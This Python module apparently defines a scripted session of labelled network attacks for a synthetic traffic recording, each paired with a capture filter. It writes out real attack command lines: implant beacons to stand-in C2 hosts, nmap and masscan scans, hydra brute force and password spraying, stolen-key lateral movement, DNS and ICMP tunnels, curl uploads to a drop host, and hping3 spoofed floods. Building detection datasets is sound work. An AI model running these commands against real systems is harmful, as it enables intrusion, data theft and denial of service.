"""The session's attacks, with real tools: who does what to whom at which second. What a deed is, is said in `attack`.

Floods are bounded and slow: the recording must stay small and the machine that records must stay usable.
"""

from __future__ import annotations

from pathlib import Path

from . import tunnels
from .attack import Attack, implant, program
from .farside import DNS_TUNNEL, OPENVPN_PORT, TOR_PORT, WIREGUARD_PORT
from .plan import SERVER_FARM, STAFF, WAN_GATEWAY, WWW, host, mac_of

SPOOFED = "198.19.7.0/24"
NMAP = ("nmap", "-n", "-Pn")
NEIGHBOURS = tuple(person.name for person in STAFF if person.name != "nakamura")[:10]
_NAKAMURA = f"ip.addr == {host('nakamura').address}"
_SPOOFERS = (
    "for n in 11 22 33 44 55 66; do hping3 -q -S -p 443 -i u4000 -c 500 -a 198.19.7.$n "
    f"{host('www').address} & done; wait"
)

BEACONS = (
    Attack("beacon", "tanaka", "c2", 5, "implant.py", "HTTPS every 5 s, jitter 20 %, 5 % of beats missed",
           implant("tanaka", "--url", "https://assets.pixelstats.example/api", "--period", "5", "--jitter", "0.2",
                   "--missed", "0.05"), "{pair} && tcp.port == 443"),
    Attack("beacon", "ito", "c2b", 7, "implant.py", "HTTPS every 3 s, jitter 50 %, asleep from 150 s to 200 s",
           implant("ito", "--url", "https://api.metricsbox.example/api", "--period", "3", "--jitter", "0.5",
                   "--sleep", "150", "200")),
    Attack("beacon", "watanabe", "resolver", 9, "implant.py", "DNS look-ups under b.metricsbox.example every 4 s, 10 %",
           implant("watanabe", "--domain", "b.metricsbox.example", "--period", "4", "--jitter", "0.1"),
           '{pair} && dns.qry.name contains "b.metricsbox.example"'),
    Attack("beacon", "nakamura", "c2c", 12, "implant.py", "plain HTTP every 6 s, jitter 30 %; first of a chain",
           implant("nakamura", "--url", "http://img.fastcache.example/api", "--period", "6", "--jitter", "0.3")),
)  # fmt: skip

SCANS = (
    Attack("slow_scan", "lurker", "files", 20, "nmap --scan-delay", "50 ports, one in 6 s",
           program("lurker", *NMAP, "-sS", "--max-retries", "0", "--scan-delay", "6s", "--top-ports", "50",
                   "@files", limit=330)),
    Attack("udp_scan", "scanner", "mail", 40, "nmap -sU", "100 UDP ports from outside",
           program("scanner", *NMAP, "-sU", "--max-retries", "0", "--min-rate", "20", "--top-ports", "100", "@mail")),
    Attack("port_scan", "scanner", "www", 50, "nmap -sS", "300 TCP ports from outside",
           program("scanner", *NMAP, "-sS", "-T4", "--top-ports", "300", "@www")),
    Attack("port_scan", "prober", "www", 60, "nmap -sX", "120 TCP ports with FIN, PSH and URG set",
           program("prober", *NMAP, "-sX", "--max-retries", "1", "--top-ports", "120", "@www")),
    Attack("icmp_sweep", "sweeper", SERVER_FARM, 70, "nmap -sn -PE", "echo requests to 256 addresses",
           program("sweeper", "nmap", "-n", "-sn", "-PE", "--max-retries", "0", "--max-rate", "60", SERVER_FARM),
           f"ip.addr == {host('sweeper').address} && icmp"),
    Attack("horizontal_scan", "sweeper", SERVER_FARM, 85, "masscan", "22, 443 and 3389 of 256 addresses",
           program("sweeper", "masscan", "-p22,443,3389", "--rate", "150", "--wait", "2", "-e", "eth0",
                   "--router-mac", mac_of(WAN_GATEWAY), SERVER_FARM),
           f"ip.addr == {host('sweeper').address} && tcp"),
    Attack("horizontal_scan", "nakamura", "198.51.100.0/24", 100, "nmap -sS", "port 445 of 256 addresses outside",
           program("nakamura", *NMAP, "-sS", "-p", "445", "--max-retries", "0", "--max-rate", "40", "198.51.100.0/24"),
           f"{_NAKAMURA} && tcp.port == 445 && ip.addr == 198.51.100.0/24"),
    Attack("port_scan", "nakamura", "files", 140, "nmap -sT", "150 TCP ports by whole connections, from inside",
           program("nakamura", *NMAP, "-sT", "--max-rate", "60", "--top-ports", "150", "@files")),
)  # fmt: skip

PASSWORDS = (
    Attack("brute_force", "guesser", "www", 105, "hydra ssh", "60 passwords of root",
           program("guesser", "hydra", "-I", "-q", "-t", "4", "-l", "root", "-P", "@folder|/passwords", "@www", "ssh")),
    Attack("brute_force", "guesser2", "ftp", 120, "hydra ftp", "60 passwords of admin",
           program("guesser2", "hydra", "-I", "-q", "-t", "4", "-l", "admin", "-P", "@folder|/passwords",
                   "@ftp", "ftp")),
    Attack("brute_force", "guesser3", "www", 130, "hydra https-post-form", "60 passwords of a web log-in",
           program("guesser3", "hydra", "-I", "-q", "-t", "4", "-l", "admin", "-P", "@folder|/passwords", WWW,
                   "https-post-form", "/login:user=^USER^&pass=^PASS^:F=wrong")),
    Attack("password_spraying", "nakamura", "mail", 165, "hydra smtp", "one password for each of 60 names",
           program("nakamura", "hydra", "-I", "-q", "-t", "3", "-L", "@folder|/names", "-p", "Spring2026!",
                   "@mail", "smtp")),
)  # fmt: skip

INSIDE = (
    Attack("lateral_movement", "nakamura", "10.20.1.0/24", 185, "ssh", "a stolen key tried on ten neighbours",
           tunnels.ssh_fan_out("nakamura", NEIGHBOURS), f"{_NAKAMURA} && ip.addr == 10.20.1.0/24 && tcp.port == 22"),
    Attack("lateral_movement", "nakamura", "10.20.1.0/24", 200, "nmap -sT", "445, 3389 and 5985 of ten neighbours",
           program("nakamura", *NMAP, "-sT", "--max-rate", "10", "-p", "445,3389,5985",
                   *(f"@{name}" for name in NEIGHBOURS)),
           f"{_NAKAMURA} && ip.addr == 10.20.1.0/24 && tcp.port in {{445, 3389, 5985}}"),
    Attack("upload", "nakamura", "drop", 230, "curl -T", "6 MB over TLS; last of a chain",
           tunnels.upload("nakamura", 6, "n.7z")),
)  # fmt: skip

TUNNELS = (
    Attack("dns_tunnel", "suzuki", "resolver", 30, "iodine", f"shell and pings under {DNS_TUNNEL}, by the resolver",
           tunnels.dns_tunnel("suzuki", 60), f'{{pair}} && dns.qry.name contains "{DNS_TUNNEL}"'),
    Attack("vpn", "yoshida", "vpn", 90, "wireguard-go", "WireGuard, shell and pings inside",
           tunnels.wireguard("yoshida", 70), f"{{pair}} && udp.port == {WIREGUARD_PORT}"),
    Attack("vpn", "kato", "vpn", 95, "openvpn", "OpenVPN over UDP, shell and pings inside",
           tunnels.openvpn("kato", 70), f"{{pair}} && udp.port == {OPENVPN_PORT}"),
    Attack("tor", "yamada", "bridge", 110, "tor", "client of one bridge; no circuit beyond it",
           tunnels.tor("yamada", 60), f"{{pair}} && tcp.port == {TOR_PORT}"),
    Attack("icmp_tunnel", "kobayashi", "icmpout", 205, "ptunnel-ng", "ssh inside echo requests",
           tunnels.icmp_tunnel("kobayashi", 45)),
    Attack("upload", "sasaki", "drop", 215, "curl -T", "30 MB over TLS 1.3", tunnels.upload("sasaki", 30, "s.7z")),
    Attack("dga", "hayashi", "resolver", 225, "dig", "80 generated names, none exists",
           tunnels.generated_names("hayashi", 80, 0.5)),
    Attack("odd_port", "takahashi", "vpn", 250, "ssh", "ssh on port 8443", tunnels.odd_port("takahashi", 60)),
    Attack("cleartext_login", "kimura", "ftp", 240, "curl", "ftp log-in of a named account",
           program("kimura", "curl", "-sS", "ftp://soumu:kaigi-shiryou@ftp.town.example/agenda.txt"),
           '{pair} && tcp.port == 21 && ftp.request.arg == "soumu" || {pair} && ftp.request.command == "PASS"'),
    Attack("cleartext_login", "kimura", "web7", 245, "curl", "HTTP basic authentication",
           program("kimura", "curl", "-sS", "-u", "kimura:himitsu", "http://groupware.example/members/"),
           "{pair} && http.authorization"),
)  # fmt: skip

FLOODS = (
    Attack("syn_flood", "www", SPOOFED, 262, "hping3 -S", "3,000 SYNs to 443 from six spoofed sources in 2 s",
           program("flooder", "sh", "-c", _SPOOFERS), f"ip.src == {SPOOFED}"),
    Attack("udp_flood", "www", "flooder", 275, "hping3 --udp", "2,000 datagrams of 300 bytes to port 53 in 2 s",
           program("flooder", "hping3", "-q", "--udp", "-p", "53", "-d", "300", "-i", "u1000", "-c", "2000", "@www"),
           "{pair} && (udp || icmp)"),
    Attack("icmp_flood", "mail", "flooder", 285, "hping3 -1", "2,000 echo requests in 2 s",
           program("flooder", "hping3", "-q", "-1", "-i", "u1000", "-c", "2000", "@mail"), "{pair} && icmp"),
    Attack("slow_http", "www", "slow", 290, "slowhttptest -H", "50 connections that never finish their request",
           program("slow", "slowhttptest", "-H", "-c", "50", "-r", "10", "-i", "5", "-l", "45", "-u",
                   f"http://{WWW}/")),
)  # fmt: skip

ATTACKS: tuple[Attack, ...] = (*BEACONS, *SCANS, *PASSWORDS, *INSIDE, *TUNNELS, *FLOODS)
SESSION = 360.0  # seconds in which all of them end


def write_lists(folder: Path) -> None:
    """The word lists that the guessers read."""
    (folder / "passwords").write_text("".join(f"password{number:02d}\n" for number in range(60)))
    (folder / "names").write_text("".join(f"shokuin{number:02d}\n" for number in range(60)))
